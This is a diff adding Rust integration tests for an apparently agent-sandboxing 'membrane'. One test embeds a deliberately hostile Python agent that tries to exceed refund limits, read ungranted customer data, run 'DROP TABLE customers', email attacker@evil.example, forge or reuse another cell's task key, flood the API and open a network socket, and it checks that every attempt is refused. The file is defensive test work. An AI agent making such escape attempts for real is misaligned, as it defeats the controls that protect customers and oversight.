@@ -1,0 +1,358 @@
+//! `silo run` through real cells and a real membrane: the example refund agent does its
+//! job, and a hostile agent tries every door the membrane guards and is refused at each.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use serde_json::Value;
+
+fn silo() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_silo"))
+}
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+struct Dirs {
+    _tmp: tempfile::TempDir,
+    data: PathBuf,
+    run: PathBuf,
+    root: PathBuf,
+}
+
+fn dirs() -> Dirs {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().to_path_buf();
+    Dirs {
+        data: root.join("data"),
+        run: root.join("run"),
+        root,
+        _tmp: tmp,
+    }
+}
+
+fn run(d: &Dirs, agent: &Path, customer: &str, case: &str, input: &str, extra: &[&str]) -> Output {
+    silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["run", "--agent"])
+        .arg(agent)
+        .args(["--customer", customer, "--case", case, "--input", input])
+        .arg("--run-dir")
+        .arg(&d.run)
+        .args(extra)
+        .output()
+        .unwrap()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "status {:?}\nstdout:\n{}\nstderr:\n{}",
+        o.status,
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// The seed customer's raw values that must never reach a cell.
+const RAW: [&str; 5] = [
+    "Jane Smith",
+    "jane.smith@example.com",
+    "010-2030",
+    "Harbour Street",
+    "1984-03-07",
+];
+
+#[test]
+fn refund_agent_refunds_emails_and_resolves_the_case_once() {
+    if !crate::is_root() {
+        eprintln!("SKIPPED: needs root");
+        return;
+    }
+    let d = dirs();
+    let agent = repo().join("agents/refund-agent");
+    let input = r#"{"message":"Hi, Jane Smith here (jane.smith@example.com): kettle ord_1001 arrived dented."}"#;
+    let o = run(&d, &agent, "cus_001", "case_001", input, &["--json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let report: Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(report["outcome"]["outcome"]["kind"], "complete", "{report}");
+    let actions: Vec<&str> = report["audit"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action"].as_str().unwrap())
+        .collect();
+    for want in [
+        "task.read",
+        "refund",
+        "email.send",
+        "data.write",
+        "task.complete",
+    ] {
+        assert!(actions.contains(&want), "{actions:?}");
+    }
+    // One email, to the real address, rendered by the membrane.
+    let outbox: Vec<_> = std::fs::read_dir(d.data.join("outbox/email"))
+        .unwrap()
+        .collect();
+    assert_eq!(outbox.len(), 1);
+    let msg: Value =
+        serde_json::from_slice(&std::fs::read(outbox[0].as_ref().unwrap().path()).unwrap())
+            .unwrap();
+    assert_eq!(msg["to"], "jane.smith@example.com");
+    assert!(msg["body"].as_str().unwrap().contains("Dear Jane Smith"));
+
+    // The same case again (a retry): the refund and the email are replays, not new ones.
+    let again = run(&d, &agent, "cus_001", "case_001", input, &[]);
+    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
+    let ledger = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["--json", "membrane", "ledger", "--customer", "cus_001"])
+        .output()
+        .unwrap();
+    let refunds: Value = serde_json::from_slice(&ledger.stdout).unwrap();
+    assert_eq!(refunds.as_array().unwrap().len(), 1, "paid once: {refunds}");
+    assert_eq!(
+        std::fs::read_dir(d.data.join("outbox/email"))
+            .unwrap()
+            .count(),
+        1
+    );
+    let verify = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["audit", "verify"])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify));
+}
+
+const HOSTILE_YAML: &str = "name: hostile-agent
+version: 0.0.1
+entry: [python3, main.py]
+limits: { timeout: 30s }
+capabilities:
+  refund: { max_cents: 500, currency: USD }
+  data.read: { fields: [name, balance_cents] }
+  email.send: { templates: [refund_issued] }
+  escalate: [human]
+";
+
+const HOSTILE_TEMPLATE: &str = "Subject: refund\n\nDear {{customer.name}}, {{vars.note}}\n";
+
+/// Tries each attack and prints one JSON object: attack name -> the error code (or `ok`).
+const HOSTILE_MAIN: &str = r#"
+import json, os, socket
+import silo
+
+results = {}
+seen = []
+
+def attempt(name, fn):
+    try:
+        out = fn()
+        seen.append(json.dumps(out))
+        results[name] = "ok"
+        return out
+    except silo.MembraneError as e:
+        seen.append(e.message)
+        results[name] = e.code
+    except Exception as e:
+        results[name] = "error:" + type(e).__name__
+
+t = attempt("task", silo.task)
+attempt("refund_over_limit", lambda: silo.refund(501, "x", idempotency_key="a1"))
+attempt("refund_negative", lambda: silo._call("POST", "refund", {"amount_cents": -5, "currency": "USD", "reason": "x", "idempotency_key": "a2"}))
+attempt("refund_float", lambda: silo._call("POST", "refund", {"amount_cents": 4.999, "currency": "USD", "reason": "x", "idempotency_key": "a3"}))
+attempt("refund_other_currency", lambda: silo.refund(100, "x", idempotency_key="a4", currency="EUR"))
+attempt("refund_other_customer", lambda: silo._call("POST", "refund", {"amount_cents": 100, "currency": "USD", "reason": "x", "idempotency_key": "a5", "customer": "cus_002"}))
+attempt("refund_ok", lambda: silo.refund(300, "x", idempotency_key="r1"))
+attempt("refund_replay", lambda: silo.refund(300, "x", idempotency_key="r1"))
+attempt("read_granted", lambda: silo.data.customer(["name", "balance_cents"]))
+attempt("read_ungranted_field", lambda: silo.data.customer(["email"]))
+attempt("read_orders_ungranted", silo.data.orders)
+attempt("raw_sql", lambda: silo._call("POST", "data/write", {"op": "sql", "text": "DROP TABLE customers"}))
+attempt("template_not_granted", lambda: silo.email.send("internal_memo", "[EMAIL_1]", {}))
+attempt("raw_address", lambda: silo.email.send("refund_issued", "attacker@evil.example", {"note": "x"}))
+attempt("forged_token_recipient", lambda: silo.email.send("refund_issued", "[EMAIL_1]", {"note": "x"}))
+
+real = os.environ["SILO_TASK_KEY"]
+head, body, sig = real.split(".")
+os.environ["SILO_TASK_KEY"] = head + "." + body + "." + sig[::-1]
+attempt("forged_task_key", silo.task)
+os.environ["SILO_TASK_KEY"] = open("/agent/other_cell.key").read().strip()
+attempt("other_cell_key", silo.task)
+os.environ["SILO_TASK_KEY"] = ""
+attempt("no_task_key", silo.task)
+os.environ["SILO_TASK_KEY"] = real
+
+# Flood: the membrane rate-limits and stays up.
+codes = set()
+for i in range(300):
+    try:
+        silo.kv.get("k")
+        codes.add("ok")
+    except silo.MembraneError as e:
+        codes.add(e.code)
+results["flood"] = sorted(codes)
+
+# The only door is the membrane: the network is not there.
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("127.0.0.1", 22))
+    results["tcp"] = "connected"
+except Exception as e:
+    results["tcp"] = "blocked:" + type(e).__name__
+
+print("SEEN " + json.dumps(seen))
+print("RESULTS " + json.dumps(results))
+"#;
+
+#[test]
+fn hostile_agent_is_refused_at_every_door_and_sees_no_raw_pii() {
+    if !crate::is_root() {
+        eprintln!("SKIPPED: needs root");
+        return;
+    }
+    let d = dirs();
+    let agent = d.root.join("hostile-agent");
+    std::fs::create_dir_all(agent.join("templates")).unwrap();
+    std::fs::write(agent.join("agent.yaml"), HOSTILE_YAML).unwrap();
+    std::fs::write(agent.join("main.py"), HOSTILE_MAIN).unwrap();
+    std::fs::write(
+        agent.join("templates/refund_issued.email"),
+        HOSTILE_TEMPLATE,
+    )
+    .unwrap();
+    std::fs::write(
+        agent.join("templates/internal_memo.email"),
+        HOSTILE_TEMPLATE,
+    )
+    .unwrap();
+    // A genuine task key, minted for another cell, planted where the agent can read it.
+    let init = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["keys", "init"])
+        .output()
+        .unwrap();
+    assert!(init.status.success(), "{}", text(&init));
+    let other = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args([
+            "keys",
+            "mint-task",
+            "--agent",
+            "hostile-agent",
+            "--task",
+            "t-other",
+            "--customer",
+            "cus_001",
+            "--case",
+            "case_001",
+            "--cell",
+            "c-0123456789ab",
+        ])
+        .output()
+        .unwrap();
+    assert!(other.status.success(), "{}", text(&other));
+    std::fs::write(agent.join("other_cell.key"), &other.stdout).unwrap();
+    for p in [&d.root, &agent, &agent.join("templates")] {
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    for f in [
+        "agent.yaml",
+        "main.py",
+        "other_cell.key",
+        "templates/refund_issued.email",
+        "templates/internal_memo.email",
+    ] {
+        std::fs::set_permissions(agent.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+
+    let o = run(
+        &d,
+        &agent,
+        "cus_001",
+        "case_001",
+        r#"{"message":"from Jane Smith"}"#,
+        &[],
+    );
+    let err = String::from_utf8_lossy(&o.stderr).to_string();
+    let results: Value = err
+        .lines()
+        .find_map(|l| l.strip_prefix("RESULTS "))
+        .map(|j| serde_json::from_str(j).unwrap())
+        .unwrap_or_else(|| panic!("no results: {}", text(&o)));
+    let expect = [
+        ("task", "ok"),
+        ("refund_over_limit", "denied"),
+        ("refund_negative", "denied"),
+        ("refund_float", "denied"),
+        ("refund_other_currency", "denied"),
+        ("refund_other_customer", "denied"),
+        ("refund_ok", "ok"),
+        ("refund_replay", "ok"),
+        ("read_granted", "ok"),
+        ("read_ungranted_field", "denied"),
+        ("read_orders_ungranted", "denied"),
+        ("raw_sql", "invalid_request"),
+        ("template_not_granted", "denied"),
+        ("raw_address", "invalid_request"),
+        ("forged_token_recipient", "invalid_request"),
+        ("forged_task_key", "invalid_key"),
+        ("other_cell_key", "wrong_cell"),
+        ("no_task_key", "missing_key"),
+    ];
+    for (attack, code) in expect {
+        assert_eq!(results[attack], code, "{attack}: {results}");
+    }
+    let flood: Vec<&str> = results["flood"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    assert!(flood.contains(&"rate_limited"), "{flood:?}");
+    assert!(flood.contains(&"ok"), "{flood:?}");
+    assert!(
+        results["tcp"].as_str().unwrap().starts_with("blocked"),
+        "{results}"
+    );
+    // Everything the agent saw (answers and error messages) is free of raw PII.
+    let seen = err.lines().find_map(|l| l.strip_prefix("SEEN ")).unwrap();
+    for raw in RAW {
+        assert!(!seen.contains(raw), "`{raw}` reached the agent: {seen}");
+    }
+    assert!(seen.contains("[NAME_1]"), "{seen}");
+    // Paid once (the replay paid nothing), within the limit.
+    let ledger = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["--json", "membrane", "ledger", "--customer", "cus_001"])
+        .output()
+        .unwrap();
+    let refunds: Value = serde_json::from_slice(&ledger.stdout).unwrap();
+    assert_eq!(refunds.as_array().unwrap().len(), 1, "{refunds}");
+    assert_eq!(refunds[0]["amount_cents"], 300);
+    // Every call, allowed and denied, is in the audit log, which verifies.
+    let audit = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["--json", "audit", "query", "--decision", "deny"])
+        .output()
+        .unwrap();
+    let denied = String::from_utf8_lossy(&audit.stdout);
+    assert!(denied.matches("\"deny\"").count() >= 12, "{}", text(&audit));
+    let verify = silo()
+        .arg("--data-dir")
+        .arg(&d.data)
+        .args(["audit", "verify"])
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}", text(&verify));
+}
